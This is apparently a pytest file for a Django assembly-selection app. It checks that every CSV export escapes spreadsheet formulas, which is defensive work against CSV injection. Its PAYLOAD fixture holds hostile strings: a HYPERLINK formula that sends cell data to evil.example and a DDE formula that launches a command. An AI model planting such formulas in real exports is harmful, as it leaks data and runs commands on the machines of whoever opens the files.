"""Every CSV download neutralises spreadsheet formulas (OWASP CSV injection): registrants
and panel exports, the registrant admin's export action, a run's panel, remaining pool and
distribution downloads, and the ``export_panel`` command."""

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse

from assemblies.models import Registrant
from assemblies.services.execution import selection_run_execute
from assemblies.services.runs import selection_run_start

pytestmark = pytest.mark.django_db

#: What the public form or an import may carry: a formula in each personal column.
PAYLOAD = {
    "name": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "email": "@SUM(1+1)*cmd|' /C calc'!A0",
    "postcode": "+1+1",
}


def poison(external_id, **fields):
    """Give a registrant of the small assembly formula-like contact fields and extra cell."""
    registrant = Registrant.objects.get(external_id=external_id)
    for key, value in {**PAYLOAD, **fields}.items():
        setattr(registrant, key, value)
    registrant.extra = {"note": "\t=1+1"}
    registrant.save()
    return registrant


def rows_of(text):
    return list(csv.reader(io.StringIO(text)))


def assert_neutral(text, *, expect_poisoned=1):
    """No cell starts with a formula trigger unless it is a plain number, and the poisoned
    row(s) are there with each payload behind a single quote."""
    rows = rows_of(text)
    for row in rows:
        for cell in row:
            assert cell[:1] not in ("=", "+", "@", "\t", "\r"), cell
            assert not (cell.startswith("-") and not cell[1:].replace(".", "").isdigit()), cell
    quoted = [row for row in rows if "'" + PAYLOAD["name"] in row]
    assert len(quoted) == expect_poisoned
    for row in quoted:
        assert "'" + PAYLOAD["email"] in row and "'" + PAYLOAD["postcode"] in row
        assert "'\t=1+1" in row


@pytest.fixture
def as_manager(client, manager):
    client.force_login(manager)
    return client


@pytest.fixture
def drawn(small_assembly, fake_draw):
    """P01 (drawn by first fit) and P12 (left in the pool) carry formulas; a run succeeded."""
    poison("P01")
    poison("P12")
    run = selection_run_start(assembly_id=small_assembly.pk, enqueue=False)
    return selection_run_execute(run_id=run.pk)


def test_registrants_export_neutralises_formulas(as_manager, small_assembly):
    poison("P01")
    url = reverse("admin:assemblies_assembly_export", args=[small_assembly.pk, "registrants"])
    assert_neutral(as_manager.get(url).content.decode())


def test_panel_export_neutralises_formulas(as_manager, small_assembly):
    poison("P01")
    # As a draw would leave them (only a draw puts people on a panel).
    Registrant.objects.filter(external_id="P01").update(status="selected")
    url = reverse("admin:assemblies_assembly_export", args=[small_assembly.pk, "panel"])
    assert_neutral(as_manager.get(url).content.decode())


def test_registrant_admin_export_action_neutralises_formulas(as_manager, small_assembly):
    registrant = poison("P01")
    url = reverse("admin:assemblies_registrant_changelist")
    response = as_manager.post(url, {"action": "export_csv", "_selected_action": [registrant.pk]})
    assert response["Content-Type"].startswith("text/csv")
    assert_neutral(response.content.decode())


@pytest.mark.parametrize("name", ["panel.csv", "pool.csv"])
def test_run_downloads_neutralise_formulas(as_manager, drawn, name):
    url = reverse("admin:assemblies_selectionrun_download", args=[drawn.pk, name])
    assert_neutral(as_manager.get(url).content.decode())


def test_run_distribution_download_goes_through_the_safe_writer(as_manager, drawn):
    drawn.result["types"][0] = ["=1+1"]  # a hostile engine id in a stored report
    drawn.save(update_fields=["result"])
    url = reverse("admin:assemblies_selectionrun_download", args=[drawn.pk, "distribution.csv"])
    rows = rows_of(as_manager.get(url).content.decode())
    assert rows[0][0] == "panel" and rows[1][-1] == "'=1+1"


def test_export_panel_command_neutralises_formulas(drawn):
    out = io.StringIO()
    call_command("export_panel", "small", "--run", str(drawn.pk), "--output", "-", stdout=out)
    assert_neutral(out.getvalue())
